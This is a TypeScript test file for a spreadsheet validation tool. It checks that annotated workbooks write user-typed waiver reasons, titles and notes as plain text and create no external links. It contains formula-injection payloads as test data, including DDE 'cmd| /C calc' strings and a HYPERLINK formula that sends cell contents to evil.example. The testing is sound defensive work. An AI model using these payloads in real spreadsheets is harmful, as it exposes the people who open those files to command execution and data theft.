/**
 * Nothing injected: text a person typed is written as text in every sheet the product writes
 * (findings, summary, its calculation sheet, notes; the template holds none), whatever it starts
 * with; links in the findings sheet point only inside the workbook; no external relationship is
 * ever created. tests/layouts/annotate.test.ts covers the findings sheet's waiver column; this
 * adds the summary, the notes, leading tabs and carriage returns, the links, and LibreOffice.
 */
import { readFileSync } from "fs";
import * as path from "path";
import { validateWorkbook } from "../../src/engine/validate";
import type { ValidationResult } from "../../src/engine/types";
import { templateWorkbookBytes } from "../../src/cli/template";
import { ANNOTATION_MARKER } from "../../src/workbook/flagMarks";
import { writeAnnotatedCopy } from "../../src/workbook/xlsx/annotate";
import { readWorkbookSnapshot } from "../../src/workbook/xlsx/read";
import { readWaiversFromXlsx, writeWaiversToXlsx } from "../../src/workbook/xlsx/waivers";
import { findElements, parseAttributes } from "../../src/workbook/xlsx/package";
import { decodeXmlText } from "../../src/workbook/xmlText";
import { describeWithLibreOffice } from "../libreoffice/soffice";
import { partNames, partText, sheetPart } from "../layouts/fixtures";
import { sheetsAsCsv } from "./libreofficeCsv";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { INJECTIONS } = require("../../scripts/make-hostile-corpus.js") as { INJECTIONS: string[] };

const CORPUS = path.join(__dirname, "..", "hostile", "corpus");
/** Waiver reasons are written whole into a cell: the most direct path from a person's text to a cell. */
const REASONS = [...INJECTIONS, "\t+SUM(1)", "\r-1+1", "@A1"];
/** Parts of the payloads that a formula made from them would contain. */
const FRAGMENTS = ["HYPERLINK", "cmd|", "evil.example", "SUM(1+1)", "SUM(1)"];

async function check(data: Uint8Array): Promise<ValidationResult> {
  return validateWorkbook(await readWorkbookSnapshot(data), { waivers: readWaiversFromXlsx(data) });
}

interface CellXml {
  ref: string;
  type: string | undefined;
  formula: string | null;
  inner: string;
}

function cellsOf(xml: string): CellXml[] {
  return findElements(xml, "c").map((element) => {
    const attributes = parseAttributes(element.start);
    const formula = findElements(element.inner, "f")[0];
    return { ref: attributes.get("r") ?? "", type: attributes.get("t"), formula: formula ? decodeXmlText(formula.inner) : null, inner: element.inner };
  });
}

function sharedStrings(data: Uint8Array): string[] {
  return findElements(partText(data, "xl/sharedStrings.xml") ?? "", "si").map((element) => decodeXmlText(element.inner.replace(/<[^>]+>/g, "")));
}

/** Text of every cell that holds a string, by sheet. */
function stringCells(data: Uint8Array, sheet: string): string[] {
  const strings = sharedStrings(data);
  return cellsOf(partText(data, sheetPart(data, sheet))!)
    .filter((cell) => cell.type === "s" || cell.type === "inlineStr")
    .map((cell) => (cell.type === "s" ? strings[Number(/<v>(\d+)<\/v>/.exec(cell.inner)?.[1])]! : decodeXmlText(cell.inner.replace(/<[^>]+>/g, ""))));
}

function externalRelationships(data: Uint8Array): string[] {
  return partNames(data)
    .filter((name) => name.endsWith(".rels"))
    .flatMap((name) => findElements(partText(data, name)!, "Relationship").map((element) => ({ name, attributes: parseAttributes(element.start) })))
    .filter(({ attributes }) => attributes.get("TargetMode") === "External")
    .map(({ name, attributes }) => `${name} → ${attributes.get("Target")}`);
}

describe("the annotated copy of a workbook full of formula-like text", () => {
  let input: Uint8Array;
  let result: ValidationResult;
  let output: Uint8Array;
  const GENERATED = ["檢核結果", "營運摘要", "營運摘要計算"];

  beforeAll(async () => {
    const base = new Uint8Array(readFileSync(path.join(CORPUS, "formula-text.xlsx")));
    const findings = (await check(base)).findings.filter((finding) => finding.ruleId === "WB-VALUE-UNKNOWN");
    expect(findings.length).toBeGreaterThanOrEqual(REASONS.length);
    input = writeWaiversToXlsx(
      base,
      REASONS.map((reason, i) => ({ fingerprint: findings[i]!.fingerprint, ruleId: findings[i]!.ruleId, reason })),
    );
    result = await check(input);
    ({ bytes: output } = await writeAnnotatedCopy(input, result, { language: "zh-TW", summary: true }));
  });

  it("writes no formula built from the workbook's text in the sheets it makes", () => {
    for (const sheet of GENERATED) {
      const formulas = cellsOf(partText(output, sheetPart(output, sheet))!).flatMap((cell) => (cell.formula === null ? [] : [cell.formula]));
      for (const formula of formulas) for (const fragment of FRAGMENTS) expect({ sheet, formula, fragment, found: formula.includes(fragment) }).toMatchObject({ found: false });
    }
  });

  it("adds no formula to the person's sheets", () => {
    for (const sheet of ["計畫資訊", "經費表", "會員名單", "營運收入"]) {
      const formulas = (data: Uint8Array) => cellsOf(partText(data, sheetPart(data, sheet))!).filter((cell) => cell.formula !== null).map((cell) => `${cell.ref}=${cell.formula}`);
      expect(formulas(output)).toEqual(formulas(input));
    }
  });

  it("writes waiver reasons as text, whatever they start with (a tab or a carriage return too)", () => {
    const texts = stringCells(output, "檢核結果");
    for (const reason of REASONS) {
      // A spreadsheet may read a leading carriage return back as a line feed (XML end-of-line
      // handling): still text that no spreadsheet runs.
      expect({ reason, written: texts.includes(reason) || texts.includes(reason.replace(/^\r/, "\n")) }).toEqual({ reason, written: true });
    }
  });

  it("writes the plan title into the summary's heading as text", () => {
    const heading = stringCells(output, "營運摘要")[0];
    expect(heading).toBe(`營運摘要：${INJECTIONS[0]}`);
  });

  it("writes notes as text: the message with the person's text quoted, and the flagged cell's value untouched", async () => {
    const comments = partNames(output).filter((name) => /^xl\/comments\d*\.xml$/.test(name));
    const noteTexts = comments.flatMap((name) => findElements(partText(output, name)!, "comment").map((element) => decodeXmlText(element.inner.replace(/<[^>]+>/g, ""))));
    const ours = noteTexts.filter((text) => text.includes(ANNOTATION_MARKER));
    expect(ours.some((text) => text.includes(INJECTIONS[0]!))).toBe(true);
    const before = await readWorkbookSnapshot(input);
    const after = await readWorkbookSnapshot(output);
    for (const sheet of before.sheets) expect(after.sheets.find((candidate) => candidate.name === sheet.name)!.values).toEqual(sheet.values);
  });

  it("links only inside the workbook and creates no external relationship", () => {
    const sheets = new Set(result.findings.map((finding) => finding.sheet));
    const links = findElements(partText(output, sheetPart(output, "檢核結果"))!, "hyperlink").map((element) => parseAttributes(element.start));
    expect(links).toHaveLength(result.findings.length);
    for (const link of links) {
      expect([...link.keys()].some((key) => /(^|:)id$/.test(key))).toBe(false);
      const location = link.get("location") ?? "";
      const target = /^'((?:[^']|'')+)'!([A-Z]{1,3}\d{1,7})$/.exec(location);
      expect({ location, inside: target !== null && sheets.has(target[1]!.replace(/''/g, "'")) }).toMatchObject({ inside: true });
    }
    expect(externalRelationships(input)).toEqual([]);
    expect(externalRelationships(output)).toEqual([]);
  });

  describeWithLibreOffice("opened in LibreOffice, every formula recalculated", () => {
    let sheets: Map<string, string>;
    beforeAll(() => {
      sheets = sheetsAsCsv(output);
    });

    it("opens every sheet", () => {
      expect([...sheets.keys()].sort()).toEqual(["會員名單", "檢核結果", "營運摘要", "營運摘要計算", "營運收入", "經費表", "計畫資訊"].sort());
    });

    it("shows the person's text, never what it would compute", () => {
      const findings = sheets.get("檢核結果")!;
      // Exception notes, in the column before the rule ID.
      expect(findings).toContain(",+1+cmd|' /C calc'!A0,WB-VALUE-UNKNOWN\n");
      expect(findings).toContain(",-2+3,WB-VALUE-UNKNOWN\n");
      expect(findings).toContain(",@A1,WB-VALUE-UNKNOWN\n");
      expect(findings).toContain(',"\n-1+1",WB-VALUE-UNKNOWN\n');
      expect(findings).toContain('=HYPERLINK(""http://evil.example/?""&A1,""click"")');
      expect(findings).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
      expect(sheets.get("營運摘要")!.split("\n")[0]).toContain("營運摘要：=HYPERLINK(");
      // A HYPERLINK that ran would show its friendly name alone in a cell.
      for (const [, csv] of sheets) expect(csv).not.toMatch(/(^|,)"?click"?(,|$)/m);
    });
  });
});

describe("the template", () => {
  it("holds only the budget form's own arithmetic (金額, 小計, 合計) and no external relationship, in either language", async () => {
    const OURS = [
      /^IF\(AND\(ISNUMBER\(G(\d+)\),ISNUMBER\(H\1\)\),\(\(G\1\*H\1\)\*IF\(\(I\1=""\),1,I\1\)\),""\)$/,
      /^SUM\(J\d+:J\d+\)$/,
      /^SUM\(J\d+(?:,J\d+)*\)$/,
    ];
    for (const language of ["zh-TW", "en"] as const) {
      const bytes = await templateWorkbookBytes(language);
      for (const name of partNames(bytes).filter((part) => /^xl\/worksheets\/sheet\d+\.xml$/.test(part))) {
        const formulas = cellsOf(partText(bytes, name)!).filter((cell) => cell.formula !== null);
        // Only in the amount column (J), only of these shapes: nothing a person's text could become.
        expect(formulas.filter((cell) => !/^J\d+$/.test(cell.ref) || !OURS.some((shape) => shape.test(cell.formula!)))).toEqual([]);
      }
      expect(externalRelationships(bytes)).toEqual([]);
    }
  });
});
